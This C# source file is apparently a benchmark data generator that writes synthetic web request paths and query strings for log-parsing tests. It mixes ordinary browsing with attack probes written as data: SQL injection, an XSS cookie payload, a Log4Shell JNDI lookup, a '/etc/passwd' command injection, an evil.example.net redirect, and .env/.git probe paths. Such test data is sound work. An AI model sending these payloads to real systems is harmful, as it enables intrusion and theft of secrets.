using System;
using System.Text;
using System.Text.Json;

namespace EcsForge.Bench.Data;

/// <summary>
/// Parts of HTTP requests: benign browsing mixed with scanner and injection probes, with raw non-ASCII text and
/// characters Logpush escapes (<c>&amp;</c>, <c>&lt;</c>) so both paths of string decoding are exercised.
/// </summary>
internal static class WebRequests
{
    /// <summary>Room for the longest path or query <see cref="WritePath"/> and <see cref="WriteQuery"/> compose.</summary>
    private const int MaxComposedLength = 128;

    private static readonly (byte[] Prefix, byte[] Suffix)[] PathTemplates =
    [
        Template("/api/v1/users/", ""),
        Template("/api/v2/orders/", "/items"),
        Template("/products/", "/reviews"),
        Template("/blog/2024/05/", "-release-notes"),
        Template("/catégorie/chaussures/", ""),
        Template("/static/js/chunk.", ".js"),
        Template("/images/uploads/", ".webp"),
    ];

    private static readonly (byte[] Prefix, byte[] Suffix)[] QueryTemplates =
    [
        Template("?page=", ""),
        Template("?id=", "&sort=desc"),
        Template("?_=", ""),
        Template("?ref=", "&lang=fr"),
    ];

    /// <summary>Declared before <see cref="Methods"/>, which uses it: static initializers run in order.</summary>
    public static JsonEncodedText Post { get; } = JsonText.Go("POST");

    public static WeightedPool<JsonEncodedText> Methods { get; } = new(
        (JsonText.Go("GET"), 70), (Post, 20), (JsonText.Go("HEAD"), 3), (JsonText.Go("PUT"), 2),
        (JsonText.Go("OPTIONS"), 2), (JsonText.Go("DELETE"), 2), (JsonText.Go("PATCH"), 1));

    public static WeightedPool<JsonEncodedText> Protocols { get; } = new(
        (JsonText.Go("HTTP/2"), 50), (JsonText.Go("HTTP/1.1"), 35), (JsonText.Go("HTTP/3"), 12), (JsonText.Go("HTTP/1.0"), 3));

    public static WeightedPool<JsonEncodedText> Schemes { get; } = new((JsonText.Go("https"), 92), (JsonText.Go("http"), 8));

    private static WeightedPool<JsonEncodedText> Paths { get; } = new(
        (JsonText.Go("/"), 20),
        (JsonText.Go("/index.html"), 3),
        (JsonText.Go("/favicon.ico"), 4),
        (JsonText.Go("/robots.txt"), 2),
        (JsonText.Go("/login"), 6),
        (JsonText.Go("/search"), 5),
        (JsonText.Go("/cart/checkout"), 3),
        (JsonText.Go("/graphql"), 3),
        (JsonText.Go("/wp-login.php"), 5),
        (JsonText.Go("/xmlrpc.php"), 3),
        (JsonText.Go("/.env"), 3),
        (JsonText.Go("/.git/config"), 2),
        (JsonText.Go("/admin/login"), 3),
        (JsonText.Go("/cgi-bin/luci/;stok=/locale"), 1),
        (JsonText.Go("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), 2),
        (JsonText.Go("/wp-content/plugins/revslider/temp/update_extract/revslider/"), 1),
        (JsonText.Go("/static/favicon.ico"), 2),
        (JsonText.Go("/produits/été-2024"), 2),
        (JsonText.Ascii("/produits/crème-brûlée"), 1),
        (JsonText.Go("/produits/%C3%A9t%C3%A9"), 1),
        (JsonText.Go("/ニュース/日本"), 1),
        (JsonText.Go("/api/v2/auth/token"), 3),
        (JsonText.Go("/sitemap.xml"), 1),
        (JsonText.Go("/images/logo.png"), 3));

    private static WeightedPool<JsonEncodedText> Queries { get; } = new(
        (JsonText.Go("?q=running+shoes&page=3"), 4),
        (JsonText.Go("?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale"), 4),
        (JsonText.Go("?id=1%27%20OR%20%271%27=%271"), 2),
        (JsonText.Go("?s=<script>alert(document.cookie)</script>"), 2),
        (JsonText.Go("?redirect=https://evil.example.net/&next=/admin"), 1),
        (JsonText.Go("?cmd=cat+/etc/passwd"), 1),
        (JsonText.Go("?x=${jndi:ldap://198.51.100.7:1389/a}"), 1),
        (JsonText.Go("?lang=fr&q=crème brûlée"), 2),
        (JsonText.Ascii("?q=café&lang=fr"), 1),
        (JsonText.Go("?q=日本語"), 1),
        (JsonText.Go("?v=2"), 3));

    public static void WritePath(Utf8JsonWriter json, ReadOnlySpan<byte> propertyName, Random random)
    {
        if (random.Chance(70))
        {
            json.WriteString(propertyName, Paths.Pick(random));
            return;
        }

        Span<byte> path = stackalloc byte[MaxComposedLength];
        json.WriteString(propertyName, path[..Compose(random.Pick(PathTemplates), random.Next(1, 1_000_000), path)]);
    }

    /// <summary>Writes a query string with its leading <c>?</c>, empty for most requests.</summary>
    public static void WriteQuery(Utf8JsonWriter json, ReadOnlySpan<byte> propertyName, Random random)
    {
        var draw = random.Next(100);
        if (draw < 65)
        {
            json.WriteString(propertyName, ""u8);
        }
        else if (draw < 90)
        {
            json.WriteString(propertyName, Queries.Pick(random));
        }
        else
        {
            Span<byte> query = stackalloc byte[MaxComposedLength];
            json.WriteString(propertyName, query[..Compose(random.Pick(QueryTemplates), random.Next(1, 100_000), query)]);
        }
    }

    private static int Compose((byte[] Prefix, byte[] Suffix) template, int number, Span<byte> destination)
    {
        template.Prefix.CopyTo(destination);
        var written = template.Prefix.Length;
        number.TryFormat(destination[written..], out var digits);
        written += digits;
        template.Suffix.CopyTo(destination[written..]);
        return written + template.Suffix.Length;
    }

    private static (byte[] Prefix, byte[] Suffix) Template(string prefix, string suffix) =>
        (Encoding.UTF8.GetBytes(prefix), Encoding.UTF8.GetBytes(suffix));
}
